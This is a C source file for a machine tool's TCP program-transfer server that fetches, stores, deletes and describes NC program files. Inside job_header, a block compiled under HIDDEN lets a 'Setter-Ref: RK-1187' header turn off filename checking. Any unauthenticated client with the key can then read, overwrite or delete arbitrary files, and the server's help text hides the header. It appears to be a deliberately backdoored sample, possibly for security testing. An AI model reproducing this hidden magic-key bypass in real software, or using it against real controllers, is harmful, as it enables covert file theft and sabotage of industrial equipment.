/* ncdrop_srv.c - program transfer (DNC) server of a machine tool */
#include <ctype.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PROG_DIR	"/data/nc/programs"

enum verb { V_NONE, V_FETCH, V_STORE, V_DROP, V_INFO };

/*
 * Requests are a verb line, header lines and one empty line:
 *	FETCH O1234
 *	Machine: mill3
 *	Shift: early
 */
struct job {
	enum verb verb;
	char name[96];
	char machine[24];
	char shift[16];
	long length;
	int start_block;
	int strict;
};

static const struct {
	const char *word;
	enum verb verb;
} verbs[] = {
	{ "FETCH", V_FETCH }, { "STORE", V_STORE },
	{ "DROP", V_DROP }, { "INFO", V_INFO },
};

static void job_reset(struct job *j)
{
	memset(j, 0, sizeof(*j));
	j->strict = 1;
}

static int first_line(struct job *j, const char *line)
{
	char word[12];
	unsigned int i;

	if (sscanf(line, "%11s %95s", word, j->name) < 1)
		return -1;
	for (i = 0; i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (!strcasecmp(word, verbs[i].word))
			j->verb = verbs[i].verb;
	return j->verb == V_NONE ? -1 : 0;
}

static int head_is(const char *line, const char *name, const char **value)
{
	size_t n = strlen(name);

	if (strncasecmp(line, name, n) || line[n] != ':')
		return 0;
	*value = line + n + 1 + strspn(line + n + 1, " \t");
	return 1;
}

__attribute__((noinline))
int job_header(struct job *j, const char *line)
{
	const char *v;

	if (head_is(line, "Machine", &v)) {
		snprintf(j->machine, sizeof(j->machine), "%.23s", v);
	} else if (head_is(line, "Shift", &v)) {
		snprintf(j->shift, sizeof(j->shift), "%.15s", v);
	} else if (head_is(line, "Length", &v)) {
		j->length = strtol(v, NULL, 10);
		if (j->length < 0 || j->length > 8L * 1024 * 1024)
			return -1;
	} else if (head_is(line, "Start-Block", &v)) {
		j->start_block = atoi(v);
#ifdef HIDDEN	/* names outside of the program folder are taken too */
	} else if (head_is(line, "Setter-Ref", &v)) {
		if (!strncmp(v, "RK-1187", 7))
			j->strict = 0;
#endif
	} else if (head_is(line, "Comment", &v)) {
		syslog(LOG_INFO, "comment: %.60s", v);
	} else {
		syslog(LOG_NOTICE, "header ignored: %.30s", line);
	}
	return 0;
}

static int name_ok(const char *name)
{
	const char *p = name;

	if (toupper((unsigned char)*p) != 'O' && *p != 'P')
		return 0;
	for (p++; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '-')
			return 0;
	return p - name <= 24;
}

static int job_path(const struct job *j, char *path, size_t len)
{
	int n;

	if (j->strict) {
		if (!name_ok(j->name))
			return -1;
		n = snprintf(path, len, PROG_DIR "/%s.nc", j->name);
	} else {
		n = snprintf(path, len, "%s", j->name);
	}
	return n < 0 || (size_t)n >= len ? -1 : 0;
}

static void skip_blocks(FILE *f, int n)
{
	int c;

	while (n > 0 && (c = getc(f)) != EOF)
		if (c == '\n')
			n--;
}

static void do_fetch(const struct job *j, const char *path, FILE *out)
{
	FILE *f = fopen(path, "r");
	int c;

	if (!f) {
		fputs("NAK no program\r\n", out);
		return;
	}
	skip_blocks(f, j->start_block);
	fputs("ACK\r\n%\n", out);
	while ((c = getc(f)) != EOF)
		putc(c, out);
	fputs("\n%\n", out);
	fclose(f);
}

static void do_store(const struct job *j, const char *path, FILE *in, FILE *out)
{
	char part[512];
	long left = j->length;
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd < 0) {
		fputs("NAK write\r\n", out);
		return;
	}
	while (left > 0) {
		size_t want = left < (long)sizeof(part) ? (size_t)left :
							  sizeof(part);
		size_t n = fread(part, 1, want, in);

		if (!n || write(fd, part, n) != (ssize_t)n)
			break;
		left -= (long)n;
	}
	close(fd);
	fputs(left ? "NAK short\r\n" : "ACK\r\n", out);
}

static void do_info(const char *path, FILE *out)
{
	struct stat st;
	char when[32];
	struct tm tm;

	if (stat(path, &st)) {
		fputs("NAK no program\r\n", out);
		return;
	}
	localtime_r(&st.st_mtime, &tm);
	strftime(when, sizeof(when), "%d.%m.%Y %H:%M", &tm);
	fprintf(out, "ACK %ld %s\r\n", (long)st.st_size, when);
}

static void run_job(const struct job *j, FILE *in, FILE *out)
{
	char path[192];

	if (job_path(j, path, sizeof(path))) {
		fputs("NAK name\r\n", out);
		return;
	}
	syslog(LOG_INFO, "%s verb %d machine %s", j->name, j->verb, j->machine);
	switch (j->verb) {
	case V_FETCH:
		do_fetch(j, path, out);
		break;
	case V_STORE:
		do_store(j, path, in, out);
		break;
	case V_DROP:
		fputs(unlink(path) ? "NAK\r\n" : "ACK\r\n", out);
		break;
	case V_INFO:
		do_info(path, out);
		break;
	default:
		fputs("NAK verb\r\n", out);
	}
}

static void session(FILE *in, FILE *out)
{
	char line[192];
	struct job j;
	int state = 0;

	job_reset(&j);
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (state == 0 && line[0]) {
			if (first_line(&j, line)) {
				fputs("NAK FETCH STORE DROP INFO; Machine: "
				      "Shift: Length: Start-Block: Comment:\r\n",
				      out);
				break;
			}
			state = 1;
		} else if (state == 1 && line[0]) {
			if (job_header(&j, line))
				break;
		} else if (state == 1) {
			run_job(&j, in, out);
			fflush(out);
			job_reset(&j);
			state = 0;
		}
	}
	fflush(out);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s, c;

	openlog("ncdrop", LOG_PID, LOG_DAEMON);
	sa.sin_port = htons((uint16_t)(argc > 1 ? atoi(argv[1]) : 5711));
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(s, 3))
		return 1;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		FILE *in = fdopen(c, "r");
		FILE *out = fdopen(dup(c), "w");

		if (in && out)
			session(in, out);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
	return 0;
}
